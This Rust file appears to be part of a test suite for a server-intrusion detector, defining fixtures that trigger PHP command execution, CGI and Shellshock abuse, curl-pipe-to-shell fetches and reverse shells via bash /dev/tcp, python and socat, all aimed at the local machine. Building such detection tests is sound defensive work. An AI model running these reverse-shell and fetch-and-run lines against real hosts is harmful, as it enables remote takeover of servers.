//! M01 to M06, M20 and M21: pages and CGI programs that run something.

use super::{
    Attack, BOTH, Claim, Entry, HOSTILE, MOD_PHP, NETWORK, ONE_LINER, PHP, RECON, SHELL, Stack,
    Turn, WRITTEN, attacks, deed, page,
};
use crate::{
    fixture::http,
    lab::turn::{encoded, here},
};

const SHOCK: &str = "shellshock_environment";
const UNKNOWN: &str = "cgi_ran_unknown_script";

pub(super) fn all() -> Vec<Attack> {
    attacks(PAGES)
        .chain(attacks(CGI))
        .chain(attacks(REVERSE))
        .collect()
}

const PAGES: &[Entry] = &[
    page("M01", PHP, "system()", SHELL, "system(\"id; : $mark\");"),
    page("M01", PHP, "exec()", SHELL, "exec(\"id; : $mark\");"),
    page(
        "M01",
        PHP,
        "shell_exec()",
        SHELL,
        "shell_exec(\"id; : $mark\");",
    ),
    page(
        "M01",
        PHP,
        "popen()",
        SHELL,
        "pclose(popen(\"id; : $mark\", 'r'));",
    ),
    page("M01", PHP, "backticks", SHELL, "echo `id; : $mark`;"),
    deed("M02", BOTH, "proc_open([id]), no shell", RECON, |turn| {
        Claim::Below(turn.spawn(&["id", "-u"]).pid())
    }),
    deed(
        "M03",
        PHP,
        "a worker becomes a shell, no fork",
        "worker_replaced_itself",
        |turn| {
            turn.last_page(
                "$c = FFI::cdef('int execl(const char *, ...);', 'libc.so.6');
$c->execl('/bin/sh', 'sh', '-c', \": $mark\", null);",
            )
        },
    ),
    page(
        "M04",
        MOD_PHP,
        "system()",
        SHELL,
        "system(\"id; : $mark\");",
    ),
    page(
        "M04",
        MOD_PHP,
        "backticks",
        SHELL,
        "echo `whoami; : $mark`;",
    ),
    page(
        "M21",
        BOTH,
        "curl | sh",
        HOSTILE,
        "file_put_contents(\"$site/fetched.txt\", ': fetched');
system(\"curl -s http://127.0.0.1:{$_SERVER['SERVER_PORT']}/fetched.txt | sh # $mark\");",
    ),
    page(
        "M21",
        PHP,
        "curl -o, chmod, run",
        WRITTEN,
        "file_put_contents(\"$site/fetched.txt\", \"#!/bin/sh\\n: fetched\\n\");
run(['curl', '-s', '-o', \"$own/x\", \"http://127.0.0.1:{$_SERVER['SERVER_PORT']}/fetched.txt\"]);
run(['chmod', '755', \"$own/x\"]); run([\"$own/x\"]);",
    ),
];

const CGI: &[Entry] = &[
    deed("M05", MOD_PHP, "CGI program of a worker", SHELL, asked),
    deed("M05", MOD_PHP, "shellshock", SHOCK, shocked),
    deed(
        "M05",
        &[Stack::Cgid],
        "CGI program among uploads",
        UNKNOWN,
        |turn| uploaded(turn, "cgid/uploads"),
    ),
    deed("M05", &[Stack::Cgid], "shellshock", SHOCK, shocked),
    deed(
        "M05",
        &[Stack::Lighttpd],
        "CGI program",
        "edge_server_executed_program",
        asked,
    ),
    deed(
        "M06",
        &[Stack::Fcgiwrap],
        "CGI program among uploads",
        UNKNOWN,
        |turn| uploaded(turn, "fcgiwrap/www/uploads"),
    ),
];

fn asked(turn: &Turn<'_>) -> Claim {
    let answer = turn.get(&format!("/cgi-bin/id.cgi?{}", turn.mark));
    assert!(answer.contains("uid="), "{answer}");
    turn.claim()
}

fn shocked(turn: &Turn<'_>) -> Claim {
    let agent = turn.fill("() { :; }; : MARK");
    let port = turn.stacks.port(turn.stack);
    http::get_as(port, "/cgi-bin/id.cgi", &agent).expect("an answer");
    turn.claim()
}

/// A program in this directory of uploads.
fn uploaded(turn: &Turn<'_>, place: &str) -> Claim {
    let answer = turn.get("/uploads/id.cgi");
    assert!(answer.contains("uid="), "{answer}");
    Claim::Says(turn.stacks.place(place).display().to_string())
}

/// Nobody listens where they connect to, which is this machine itself.
const REVERSE: &[Entry] = &[
    deed(
        "M20",
        PHP,
        "reverse shell: bash, /dev/tcp",
        HOSTILE,
        back_by_page,
    ),
    deed(
        "M20",
        MOD_PHP,
        "reverse shell: bash, /dev/tcp",
        "shell_connects_out",
        back_by_page,
    ),
    deed(
        "M20",
        PHP,
        "reverse shell: python, by an argument",
        ONE_LINER,
        |turn| {
            let code = "import socket; socket.create_connection((\"HERE\", 1)) # MARK";
            turn.spawn(&["python3", "-c", &code.replace("HERE", &here())]);
            turn.claim()
        },
    ),
    deed("M20", PHP, "reverse shell: socat", NETWORK, |turn| {
        turn.spawn(&["socat", "tcp:127.0.0.1:1", "exec:sh -c ': MARK'"]);
        turn.claim()
    }),
    deed(
        "M20",
        &[Stack::Gunicorn, Stack::Node],
        "reverse shell: bash, /dev/tcp",
        HOSTILE,
        |turn| {
            turn.get(&format!("/sh/{}", encoded(&back(turn))));
            turn.claim()
        },
    ),
];

fn back(turn: &Turn<'_>) -> String {
    let line = "bash -c 'exec 5<>/dev/tcp/HERE/1 && bash -i <&5 >&5' # MARK";
    turn.fill(line).replace("HERE", &here())
}

fn back_by_page(turn: &Turn<'_>) -> Claim {
    let line = back(turn).replace('\'', "\\'");
    turn.page(&format!("system('{line}');"));
    turn.claim()
}
